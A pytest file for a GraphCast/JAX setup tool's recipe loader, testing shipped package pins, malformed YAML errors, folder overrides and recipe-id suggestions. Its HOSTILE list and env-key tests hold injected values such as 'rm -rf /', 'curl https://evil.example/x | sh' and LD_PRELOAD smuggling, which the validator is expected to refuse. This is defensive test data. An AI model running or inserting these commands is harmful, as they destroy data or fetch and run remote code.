"""The recipe format: the three shipped recipes, the validator on malformed and hostile files, overrides."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from wizard import paths
from wizard.errors import UserError
from wizard.recipes.loader import (
    close_recipe_ids,
    get_recipe,
    load_recipe_file,
    load_recipes,
    parse_recipe,
    unknown_recipe_words,
)

BUILTIN = paths.builtin_recipes_dir()
CPU_TEXT = (BUILTIN / "jax0.4.23-cpu.yaml").read_text()
GC_REV = "97d1ad50b0b7af4aaed7790167dffa769bae1f2c"
COMPANIONS = {
    "jax": "0.4.23", "numpy": "1.26.4", "scipy": "1.11.4", "ml-dtypes": "0.2.0", "dm-haiku": "0.0.11",
    "flax": "0.8.4", "chex": "0.1.86", "optax": "0.2.2", "jraph": "0.0.6.dev0", "dm-tree": "0.1.8",
    "xarray": "2024.3.0", "pandas": "2.2.2", "trimesh": "4.0.10", "rtree": "1.3.0",
}
CUDA12_SET = {
    "jaxlib": "0.4.23+cuda12.cudnn89", "nvidia-cudnn-cu12": "8.9.7.29", "nvidia-cublas-cu12": "12.2.5.6",
    "nvidia-cuda-cupti-cu12": "12.2.142", "nvidia-cuda-nvcc-cu12": "12.2.140",
    "nvidia-cuda-runtime-cu12": "12.2.140", "nvidia-cuda-nvrtc-cu12": "12.2.140",
    "nvidia-cufft-cu12": "11.0.8.103", "nvidia-cusolver-cu12": "11.5.2.141",
    "nvidia-cusparse-cu12": "12.1.2.141", "nvidia-nvjitlink-cu12": "12.2.140", "nvidia-nccl-cu12": "2.18.3",
}
CUDA11_SET = {
    "jaxlib": "0.4.23+cuda11.cudnn86", "nvidia-cudnn-cu11": "8.6.0.163", "nvidia-cublas-cu11": "11.11.3.6",
    "nvidia-cuda-cupti-cu11": "11.8.87", "nvidia-cuda-nvcc-cu11": "11.8.89",
    "nvidia-cuda-runtime-cu11": "11.8.89", "nvidia-cuda-nvrtc-cu11": "11.8.89",
    "nvidia-cufft-cu11": "10.9.0.58", "nvidia-cusolver-cu11": "11.4.1.48", "nvidia-cusparse-cu11": "11.7.5.86",
}
JAX_PAGE = "https://storage.googleapis.com/jax-releases/jax_cuda_releases.html"


# ---------------------------------------------------------------------------------------------- shipped


def test_exactly_the_twelve_builtin_recipes():
    assert sorted(load_recipes()) == ["jax0.10.2-cpu", "jax0.10.2-cuda12", "jax0.10.2-cuda13", "jax0.12.0.1-cpu",
                                      "jax0.12.0.1-cuda12", "jax0.12.0.1-cuda13", "jax0.4.23-cpu",
                                      "jax0.4.23-cuda11-cudnn86", "jax0.4.23-cuda12-cudnn89",
                                      "weathernext0.3.0-cpu", "weathernext0.3.0-cuda12", "weathernext0.3.0-cuda13"]


V02_REV = "08cf73625c9d12bd9aaa038868bcb2fe488f2a22"


@pytest.mark.parametrize("recipe_id, backend, plugin", [
    ("jax0.10.2-cuda12", "gpu", "jax-cuda12-plugin"),
    ("jax0.10.2-cuda13", "gpu", "jax-cuda13-plugin"),
    ("jax0.10.2-cpu", "cpu", None),
])
def test_modern_recipes_run_graphcast_v02_on_jax_0102(recipe_id, backend, plugin):
    recipe = get_recipe(recipe_id)
    assert recipe.backend == backend and recipe.graphcast.version == "0.2" and recipe.graphcast.revision == V02_REV
    assert recipe.graphcast.source.endswith(f"github.com/google-deepmind/graphcast@{V02_REV}")
    assert len(recipe.pins) == len(recipe.requirements), "every requirement is an exact pin"
    pins = recipe.pins
    assert pins["jax"] == pins["jaxlib"] == "0.10.2" and pins["numpy"].startswith("2.")
    assert pins["xarray"] == "2026.2.0" and pins["pandas"].startswith("2.") and pins["pyproj"] == "3.7.1"
    for name in ("dm-haiku", "chex", "optax", "jraph", "dinosaur-dycore", "xarray-tensorstore", "tensorstore"):
        assert name in pins
    assert recipe.machine.python == ">=3.11,<3.13" and recipe.machine.glibc_min == "2.27"
    assert recipe.find_links == () and recipe.alternatives == ()
    if plugin:
        assert pins[plugin] == "0.10.2" and pins[plugin.replace("plugin", "pjrt")] == "0.10.2"
        assert recipe.runtime_env == {"XLA_PYTHON_CLIENT_PREALLOCATE": "false"}
    else:
        assert recipe.runtime_env == {"JAX_PLATFORMS": "cpu"}
        assert not any(name.startswith(("nvidia-", "jax-cuda")) for name in pins)


def test_modern_gpu_thresholds():
    cu12 = get_recipe("jax0.10.2-cuda12").machine
    assert (cu12.cuda_major, cu12.driver_min, cu12.driver_warn_below, cu12.compute_capability_min) == (
        12, "525.60.13", "575.51.03", "5.2")
    assert get_recipe("jax0.10.2-cuda12").pins["nvidia-cudnn-cu12"] == "9.10.2.21"
    assert [(c.compute_capability_min, c.compute_capability_below) for c in cu12.gpu_cautions] == [("10.0", "12.0")]
    cu13 = get_recipe("jax0.10.2-cuda13").machine
    assert (cu13.cuda_major, cu13.driver_min, cu13.compute_capability_min, cu13.gpu_cautions) == (
        13, "580", "7.5", ())


def test_the_cuda12_recipe_offers_the_pypi_plugin_marked_unchecked():
    from wizard.recipes.alternatives import GPU_CHECK, apply_alternative

    recipe = get_recipe("jax0.4.23-cuda12-cudnn89")
    (alt,) = recipe.alternatives
    assert alt.id == "pypi-plugin" and alt.gpu_checked is False and "withdrew" in alt.why
    applied = apply_alternative(recipe, "pypi-plugin")
    assert applied.pins["jaxlib"] == "0.4.23" and applied.pins["jax-cuda12-plugin"] == "0.4.23"
    assert applied.pins["jax-cuda12-pjrt"] == "0.4.23" and applied.find_links == ()
    assert GPU_CHECK in applied.title and GPU_CHECK in applied.notes[0]
    assert {k: v for k, v in applied.pins.items() if not k.startswith(("jax", "jaxlib"))} == {
        k: v for k, v in recipe.pins.items() if not k.startswith(("jax", "jaxlib"))}


@pytest.mark.parametrize("block, message", [
    ("alternatives:\n  - id: Bad_ID\n    title: t\n    why: w\n    requirements: [jaxlib==0.4.23]\n",
     "alternatives id 'Bad_ID'"),
    ("alternatives:\n  - id: a\n    title: t\n    why: w\n    requirements: ['jaxlib @ https://x/y.whl']\n",
     "points at a URL"),
    ("alternatives:\n  - id: a\n    title: t\n    why: w\n    requirements: [jaxlib==1]\n    gpu_checked: maybe\n",
     "gpu_checked must be true or false"),
])
def test_bad_alternatives_name_the_line(tmp_path, block, message):
    text = get_recipe("jax0.4.23-cpu").path.read_text().split("alternatives:")[0] + block
    with pytest.raises(UserError, match=message):
        parse_recipe(text, tmp_path / "jax0.4.23-cpu.yaml")


@pytest.mark.parametrize("recipe_id, backend, cuda_set", [
    ("jax0.4.23-cuda12-cudnn89", "gpu", CUDA12_SET),
    ("jax0.4.23-cuda11-cudnn86", "gpu", CUDA11_SET),
    ("jax0.4.23-cpu", "cpu", {"jaxlib": "0.4.23"}),
])
def test_shipped_recipe_pins(recipe_id, backend, cuda_set):
    recipe = get_recipe(recipe_id)
    assert recipe.backend == backend
    assert recipe.pins == {**recipe.pins, **COMPANIONS, **cuda_set}, "a pin differs from the fact sheet"
    # Every requirement is an exact pin: nothing floats to a version nobody tested.
    assert len(recipe.pins) == len(recipe.requirements)
    assert recipe.pins["ipykernel"].startswith("6.")
    assert recipe.graphcast.revision == GC_REV
    assert recipe.graphcast.source.endswith(f"github.com/google-deepmind/graphcast@{GC_REV}")
    assert recipe.graphcast.version == "0.1.1"
    assert recipe.machine.python == ">=3.10,<3.12"
    assert recipe.disk_gib > 0
    if backend == "gpu":
        assert recipe.find_links == (JAX_PAGE,)
        assert recipe.runtime_env == {"XLA_PYTHON_CLIENT_PREALLOCATE": "false"}
        assert recipe.machine.compute_capability_min == "5.2"
        assert not any(name.startswith(("jax-cuda", "jax_cuda")) for name in recipe.pins)
    else:
        assert recipe.find_links == ()
        assert recipe.runtime_env == {"JAX_PLATFORMS": "cpu"}
        assert not any(name.startswith("nvidia-") for name in recipe.pins)


def test_driver_thresholds_of_the_gpu_recipes():
    cu12 = get_recipe("jax0.4.23-cuda12-cudnn89").machine
    assert (cu12.cuda_major, cu12.driver_cuda_min, cu12.driver_min, cu12.driver_warn_below) == (
        12, "12.0", "525.60.13", "535.54.03")
    assert [(r.compute_capability_min, r.driver_min) for r in cu12.gpu_driver_rules] == [("9.0", "535.54.03")]
    cu11 = get_recipe("jax0.4.23-cuda11-cudnn86").machine
    assert (cu11.cuda_major, cu11.driver_min) == (11, "450.80.02")


def test_cuda11_recipe_explains_why_not_the_extra():
    recipe = get_recipe("jax0.4.23-cuda11-cudnn86")
    assert any("cuda11_pip" in n and ">=8.8" in n for n in recipe.notes)


# ---------------------------------------------------------------------------------------------- malformed


def _line_of(text: str, needle: str) -> int:
    for number, line in enumerate(text.splitlines(), 1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in text")


def _write(folder: Path, text: str, name: str = "jax0.4.23-cpu.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text)
    return path


def _replace(old: str, new: str) -> str:
    assert old in CPU_TEXT, old
    return CPU_TEXT.replace(old, new, 1)


_REQ_BLOCK = re.compile(r"^requirements:\n(  .*\n)+", re.M)

# (case id, modified text, the line's marker in the text, words the message must hold)
MALFORMED = [
    ("bad-yaml", _replace("  - numpy==1.26.4\n", "  - numpy==1.26.4\n   oops: [\n"), "oops: [", "not valid YAML"),
    ("tab-indent", _replace("  - scipy==1.11.4", "\t- scipy==1.11.4"), "\t- scipy", "not valid YAML"),
    # nineteenth hostile pass P8: a character YAML refuses got PyYAML's "<unicode string>", position 30, no line
    ("nul-byte", _replace("title: JAX 0.4.23", "title: JAX\x000.4.23"), "title: JAX\x00",
     "not valid YAML (the character \\u0000, a control character, is not allowed in YAML; delete it)"),
    ("escape-char", _replace("  - scipy==1.11.4", "  - scipy==1.11.4\x1b[2J"), "\x1b[2J", "the character \\u001b"),
    ("del-char", _replace("disk_gib: 2", "disk_gib: 2\x7f"), "disk_gib: 2\x7f", "the character \\u007f"),
    ("noncharacter", _replace("title: JAX 0.4.23", "title: JAX\ufffe"), "title: JAX\ufffe",
     "the character \\ufffe, a character Unicode reserves"),
    ("c1-control", _replace("title: JAX 0.4.23", "title: JAX\x9b"), "title: JAX\x9b", "the character \\u009b"),
    ("unknown-top-key", _replace("disk_gib: 2", "disk_gib: 2\nrequirments: []"), "requirments", "unknown key 'requirments'"),
    ("unknown-machine-key", _replace("  python: \">=3.10,<3.12\"", "  python: \">=3.10,<3.12\"\n  gpu: yes"),
     "  gpu: yes", "unknown key 'gpu' in machine"),
    ("duplicate-key", _replace("title: JAX 0.4.23 on the CPU", "title: JAX 0.4.23 on the CPU\ntitle: again"),
     "title: again", "appears twice"),
    ("disk-not-number", _replace("disk_gib: 2", "disk_gib: lots"), "disk_gib: lots", "must be a number"),
    ("title-list", _replace("title: JAX 0.4.23 on the CPU", "title: [a, b]"), "title: [a, b]", "must be a string"),
    ("requirements-string", _REQ_BLOCK.sub("requirements: jax\n", CPU_TEXT), "requirements: jax", "must be a list"),
    ("requirements-empty", _REQ_BLOCK.sub("requirements: []\n", CPU_TEXT), "requirements: []", "at least one package"),
    ("env-unquoted-bool", _replace("  JAX_PLATFORMS: cpu", "  JAX_PLATFORMS: cpu\n  XLA_PYTHON_CLIENT_PREALLOCATE: false"),
     "XLA_PYTHON_CLIENT_PREALLOCATE", "quoted string"),
    ("version-unquoted", _replace('glibc_min: "2.17"', "glibc_min: 2.17"), "glibc_min", "quoted string"),
    ("schema-2", _replace("schema: 1", "schema: 2"), "schema: 2", "schema 2"),
    # eighteenth hostile pass P11: an id of only lower-case letters, but too long, was refused for its characters
    ("id-too-long", _replace("id: jax0.4.23-cpu", "id: " + "t" * 101), "id: ttt", "101 characters long; at most 100"),
    ("backend-tpu", _replace("backend: cpu", "backend: tpu"), "backend: tpu", "backend 'tpu'"),
    ("python-spec", _replace('python: ">=3.10,<3.12"', 'python: "three point ten"'), "three point ten",
     "not a version specifier"),
    ("find-links-http", _replace("find_links: []", "find_links: [http://mirror.example/wheels]"), "find_links",
     "only https:// and file://"),
    ("index-path", _replace("extra_index_urls: []", "extra_index_urls: [/srv/index]"), "extra_index_urls",
     "must be an https:// or file:// URL"),
    ("env-ld-library-path", _replace("  JAX_PLATFORMS: cpu", "  JAX_PLATFORMS: cpu\n  LD_LIBRARY_PATH: /usr/local/cuda/lib64"),
     "LD_LIBRARY_PATH", "may not set LD_LIBRARY_PATH"),
    ("prompt-bad-regex", _replace("prompts: []", "prompts:\n  - pattern: 'Proceed ([y'\n    answer: y"),
     "pattern: 'Proceed", "not a valid regular expression"),
    ("cpu-with-cuda", _replace('  python: ">=3.10,<3.12"', '  python: ">=3.10,<3.12"\n  cuda_major: 12'),
     "cuda_major: 12", "only makes sense for a gpu recipe"),
    ("graphcast-revision", _replace(f"revision: {GC_REV}", "revision: main"), "revision: main", "not a git commit"),
    ("graphcast-ssh", _replace("source: graphcast @ git+https://", "source: graphcast @ git+ssh://"),
     "source: graphcast", "must use git+https://"),
    ("missing-key", CPU_TEXT.replace("disk_gib: 2\n", ""), "schema: 1", "lacks the required key 'disk_gib'"),
    ("duplicate-requirement", _replace("  - scipy==1.11.4", "  - scipy==1.11.4\n  - SciPy==1.13.1"),
     "SciPy==1.13.1", "a second time"),
]

HOSTILE = [
    "numpy; rm -rf /",
    "numpy && curl https://evil.example/x | sh",
    "numpy`reboot`",
    "numpy==$(curl evil.example)",
    "numpy | sh",
    "--index-url=https://evil.example/simple",
    "numpy @ https://evil.example/numpy-1.26.4-py3-none-any.whl",
    "numpy>=1 \\",
    "numpy==1.26.4 --no-deps",
]


@pytest.mark.parametrize("case, text, marker, words", MALFORMED, ids=[c[0] for c in MALFORMED])
def test_malformed_recipe_is_one_clear_error_with_the_line(tmp_path, case, text, marker, words):
    path = _write(tmp_path, text)
    with pytest.raises(UserError) as info:
        load_recipe_file(path)
    message = str(info.value)
    assert str(path) in message
    assert f"line {_line_of(text, marker)}:" in message, message
    assert words in message
    assert "\n" not in message and "Traceback" not in message


#: Numbers YAML 1.1 reads that a recipe's author did not write as plain decimal digits (fixers' leftover: YAML 1.1
#: integers): `int()` of PyYAML's reading took them as 15, 31, 3, 1000, 5, 90 …; `0o17` is a string to PyYAML.
_NOT_PLAIN = ["0o17", "0x1F", "017", "0b11", "1_000", "+5", "1:30"]


@pytest.mark.parametrize("key, written", [(key, written) for key in ("schema", "preference", "disk_gib")
                                          for written in _NOT_PLAIN]
                         + [("disk_gib", written) for written in (".inf", "1_0.5", "02.5", "1:30.5")])
def test_a_number_not_in_plain_decimal_digits_is_refused_naming_file_line_and_value(tmp_path, key, written):
    old = {"schema": "schema: 1", "preference": "preference: 0", "disk_gib": "disk_gib: 2"}[key]
    text = _replace(old, f"{key}: {written}")
    path = _write(tmp_path, text)
    with pytest.raises(UserError) as info:
        load_recipe_file(path)
    message = str(info.value)
    assert f"{path}, line {_line_of(text, f'{key}: {written}')}: {key} '{written}' must be" in message, message
    assert "digits 0-9 only" in message and "\n" not in message


def test_plain_numbers_are_still_read(tmp_path):
    text = _replace("preference: 0", "preference: -3")
    recipe = load_recipe_file(_write(tmp_path, text))
    assert recipe.preference == -3 and recipe.schema == 1 and recipe.disk_gib == 2
    assert load_recipe_file(_write(tmp_path, _replace("disk_gib: 2", "disk_gib: 0.5"))).disk_gib == 0.5


@pytest.mark.parametrize("requirement", HOSTILE)
def test_hostile_requirement_is_refused_with_its_line(tmp_path, requirement):
    quoted = "'" + requirement.replace("'", "''") + "'"
    text = _replace("  - numpy==1.26.4", f"  - {quoted}")
    path = _write(tmp_path, text)
    with pytest.raises(UserError) as info:
        load_recipe_file(path)
    assert f"{path}, line {_line_of(text, quoted)}:" in str(info.value)
    assert "requirement" in str(info.value)


def test_valid_markers_and_ranges_are_accepted(tmp_path):
    text = _replace("  - numpy==1.26.4", "  - 'numpy>=1.26,<2; python_version < \"3.12\"'\n  - tomli!=2.0.0")
    recipe = load_recipe_file(_write(tmp_path, text))
    assert 'numpy>=1.26,<2; python_version < "3.12"' in recipe.requirements
    assert "numpy" not in recipe.pins  # a range is not a pin


def test_id_must_match_file_name(tmp_path):
    path = _write(tmp_path, CPU_TEXT, name="my-cpu.yaml")
    with pytest.raises(UserError, match=r"id 'jax0.4.23-cpu' does not match the file name 'my-cpu.yaml'"):
        load_recipe_file(path)


@pytest.mark.parametrize("text, words", [
    ("", "the file is empty"),
    ("- just\n- a list\n", "must be a mapping"),
    ("id: [unclosed\n", "not valid YAML"),
])
def test_degenerate_files(tmp_path, text, words):
    with pytest.raises(UserError, match=words):
        parse_recipe(text, tmp_path / "x.yaml")


def test_binary_file_is_refused(tmp_path):
    path = tmp_path / "jax0.4.23-cpu.yaml"
    path.write_bytes(b"id: \xff\xfe\x00junk")
    with pytest.raises(UserError, match="not UTF-8"):
        load_recipe_file(path)


def test_relative_find_links_are_relative_to_the_recipe_file(tmp_path):
    text = _replace("find_links: []", "find_links: [wheels, 'file:///srv/wheels']")
    recipe = load_recipe_file(_write(tmp_path / "admin", text))
    assert recipe.find_links == (str(tmp_path / "admin" / "wheels"), "file:///srv/wheels")


# ---------------------------------------------------------------------------------------------- folders


def test_later_folders_override_by_id_and_add_new_ones(tmp_path, isolated_state):
    user_dir = paths.user_recipes_dir()
    _write(user_dir, _replace("title: JAX 0.4.23 on the CPU", "title: From the user folder"))
    assert load_recipes()["jax0.4.23-cpu"].title == "From the user folder"

    extra = tmp_path / "extra"
    _write(extra, _replace("title: JAX 0.4.23 on the CPU", "title: From --recipes-dir"))
    _write(extra, CPU_TEXT.replace("id: jax0.4.23-cpu", "id: lab-cpu"), name="lab-cpu.yaml")
    (extra / "README.txt").write_text("not a recipe")
    (extra / ".hidden.yaml").write_text("garbage: [")
    recipes = load_recipes([str(extra)])
    assert recipes["jax0.4.23-cpu"].title == "From --recipes-dir"
    assert recipes["jax0.4.23-cpu"].path == extra / "jax0.4.23-cpu.yaml"
    assert "lab-cpu" in recipes and len(recipes) == 13


def test_a_malformed_file_in_any_folder_stops_loading(tmp_path):
    _write(tmp_path, "id: x\nid: y\n", name="x.yaml")
    with pytest.raises(UserError, match=r"x\.yaml, line 2: key 'id' appears twice"):
        load_recipes([str(tmp_path)])


def test_missing_recipes_dir_is_bad_input(tmp_path):
    with pytest.raises(UserError, match="does not exist"):
        load_recipes([str(tmp_path / "nope")])


def test_unknown_recipe_leaves_the_list_to_the_recipes_command():
    """Walk 21 #7: the refusal was one line of ~400 characters listing every recipe; the list is `recipes`'s."""
    with pytest.raises(UserError) as info:
        get_recipe("jax0.4.99-tpu")
    message = str(info.value)
    assert message.startswith("unknown recipe 'jax0.4.99-tpu'; ") and "`gc-wizard recipes` lists all" in message
    assert "jax0.4.23-cuda11-cudnn86" not in message and len(message) < 160


def test_the_recommended_recipe_comes_first_among_the_suggestions_and_is_marked():
    ids = ["jax0.10.2-cpu", "jax0.12.0.1-cpu", "jax0.4.23-cpu", "jax0.4.23-cuda12-cudnn89"]
    assert unknown_recipe_words("jax-cpu", ids, "jax0.4.23-cpu") == (
        "unknown recipe 'jax-cpu'; did you mean jax0.4.23-cpu (recommended here), jax0.10.2-cpu or jax0.12.0.1-cpu? "
        "`gc-wizard recipes` lists all 4.")
    assert unknown_recipe_words("xyz", ids, "jax0.4.23-cpu") == (
        "unknown recipe 'xyz'; `gc-wizard recipes` lists all 4; jax0.4.23-cpu is recommended here.")
    assert "recommended" not in unknown_recipe_words("jax-cpu", ids)  # not known (a plan for a GPU node)
    asked = []
    with pytest.raises(UserError, match=r"did you mean jax0.4.23-cpu \(recommended here\)"):
        get_recipe("jax0.4.23-cpus", recommended=lambda: asked.append(1) or "jax0.4.23-cpu")
    get_recipe("jax0.4.23-cpu", recommended=lambda: asked.append(2) or "x")
    assert asked == [1]  # asked only for a refusal


def test_a_typo_in_a_recipe_id_gets_the_close_one_suggested():
    with pytest.raises(UserError, match=r"'jax0.4.23-cpus'; did you mean jax0.4.23-cpu\?"):
        get_recipe("jax0.4.23-cpus")
    with pytest.raises(UserError) as info:
        get_recipe("xyz")
    assert "did you mean" not in str(info.value)


def test_a_name_an_id_begins_with_gets_that_id_and_the_recommended_one_survives_the_cut_to_three():
    """Walk 22 #8: `jax0.4.23-cuda12` was offered `jax0.10.2-cuda12` (a near spelling of another version), and
    `jax` did not name the recommended recipe."""
    ids = ["jax0.10.2-cpu", "jax0.10.2-cuda12", "jax0.12.0.1-cpu", "jax0.12.0.1-cuda13", "jax0.4.23-cpu",
           "jax0.4.23-cuda11-cudnn86", "jax0.4.23-cuda12-cudnn89"]
    assert close_recipe_ids("jax0.4.23-cuda12", ids) == ["jax0.4.23-cuda12-cudnn89"]
    assert close_recipe_ids("jax", ids, prefer="jax0.4.23-cpu")[0] == "jax0.4.23-cpu"
    assert unknown_recipe_words("jax", ids, "jax0.4.23-cpu").startswith(
        "unknown recipe 'jax'; did you mean jax0.4.23-cpu (recommended here), ")


@pytest.mark.parametrize(("wanted", "meant"), [
    ("jax-cpu", "jax0.4.23-cpu"),  # a short name: the recipes holding each of its words (walk 19 #11)
    ("cuda11", "jax0.4.23-cuda11-cudnn86"),
    ("JAX 0.4.23 cuda12", "jax0.4.23-cuda12-cudnn89"),
])
def test_a_short_or_spaced_name_gets_the_recipes_holding_its_words(wanted, meant):
    with pytest.raises(UserError) as info:
        get_recipe(wanted)
    hint = str(info.value).split("did you mean ", 1)[1].split("?")[0]
    assert meant in hint.split(" or ") and len(hint.split(" or ")) <= 3


def test_to_dict_round_trips_the_fields():
    data = get_recipe("jax0.4.23-cuda12-cudnn89").to_dict()
    assert data["id"] == "jax0.4.23-cuda12-cudnn89"
    assert data["machine"]["driver_min"] == "525.60.13"
    assert "nvidia-cudnn-cu12==8.9.7.29" in data["requirements"]


def test_a_recipe_file_is_parsed_once_until_it_changes(tmp_path):
    """The app and `diagnose` ask for every recipe again and again; an unchanged file is not parsed again, and a
    file edited in between (another title, another size) is."""
    import os
    import shutil

    source = paths.builtin_recipes_dir() / "jax0.4.23-cpu.yaml"
    copy = tmp_path / "jax0.4.23-cpu.yaml"
    shutil.copy(source, copy)
    first = load_recipe_file(copy)
    assert load_recipe_file(copy) is first
    copy.write_text(copy.read_text().replace(f"title: {first.title}", "title: Another title"))
    os.utime(copy, ns=(1, 1))
    again = load_recipe_file(copy)
    assert again is not first and again.title == "Another title"


@pytest.mark.parametrize("key", ['"JAX_A\\nLD_PRELOAD"', '"JAX_B\\rNCCL_NET_PLUGIN"', '"XLA_\\u2028X"'])
def test_a_quoted_key_or_value_cannot_start_a_line_of_the_sentence(tmp_path, key):
    """Fourteenth hostile pass Q6: a runtime_env key holding a newline printed a second line of stderr from the
    recipe file; the `--json` line escaped it. One rule for every recipe-file sentence: on one line."""
    path = _write(tmp_path, _replace("  JAX_PLATFORMS: cpu", f"  JAX_PLATFORMS: cpu\n  {key}: x"))
    with pytest.raises(UserError) as info:
        load_recipe_file(path)
    message = str(info.value)
    assert "\n" not in message and "\r" not in message and "\u2028" not in message, message
    assert str(path) in message and ("\\u000a" in message or "\\u000d" in message or "\\u2028" in message)


@pytest.mark.parametrize("make, words", [
    (lambda p: __import__("os").mkfifo(p), "named pipe (FIFO), not a regular file"),
    (lambda p: p.symlink_to(p.parent / "gone.yaml"), "which does not exist"),
    (lambda p: p.symlink_to("/dev/zero"), "character device"),
    (lambda p: p.mkdir(), "a folder"),
])
def test_a_recipe_file_that_is_no_file_is_named_not_passed_over(tmp_path, make, words):
    """Fourteenth hostile pass Q7: x.yaml as a FIFO or a link to a device was passed over without a word, and
    `plan x` said "unknown recipe 'x'". It is refused by name now, without being opened (a FIFO never blocks)."""
    folder = tmp_path / "recipes"
    folder.mkdir()
    make(folder / "x.yaml")
    with pytest.raises(UserError) as info:
        load_recipes([str(folder)])
    assert f"recipe file {folder / 'x.yaml'}: " in str(info.value) and words in str(info.value), str(info.value)


def test_a_number_longer_than_python_reads_is_named_by_file_and_line(tmp_path):
    """Sixteenth hostile pass P5: `disk_gib:` with 5000 digits ended as "an error of its own … a bug", exit 1."""
    path = _write(tmp_path, _replace("disk_gib: 2", "disk_gib: " + "9" * 5000))
    with pytest.raises(UserError) as info:
        load_recipe_file(path)
    assert str(info.value) == (f"recipe file {path}, line 155: this number is far longer than any setting "
                               "(more than 4300 digits)")


def test_a_shortened_version_gets_its_own_family_not_a_near_spelling_of_another():
    """walk 23 #10: `plan jax0.12-cpu` said "did you mean jax0.10.2-cpu?", another JAX
    generation, because difflib counts characters; a shortened version names its family."""
    ids = ["jax0.10.2-cpu", "jax0.10.2-cuda12", "jax0.12.0.1-cpu", "jax0.12.0.1-cuda12", "jax0.4.23-cpu",
           "jax0.4.23-cuda12-cudnn89"]
    assert close_recipe_ids("jax0.12-cpu", ids) == ["jax0.12.0.1-cpu"]
    assert close_recipe_ids("jax0.4-cuda12", ids) == ["jax0.4.23-cuda12-cudnn89"]
    assert close_recipe_ids("jax0.10-cuda12", ids) == ["jax0.10.2-cuda12"]
    with pytest.raises(UserError, match=r"'jax0.12-cpu'; did you mean jax0.12.0.1-cpu\?"):
        get_recipe("jax0.12-cpu")
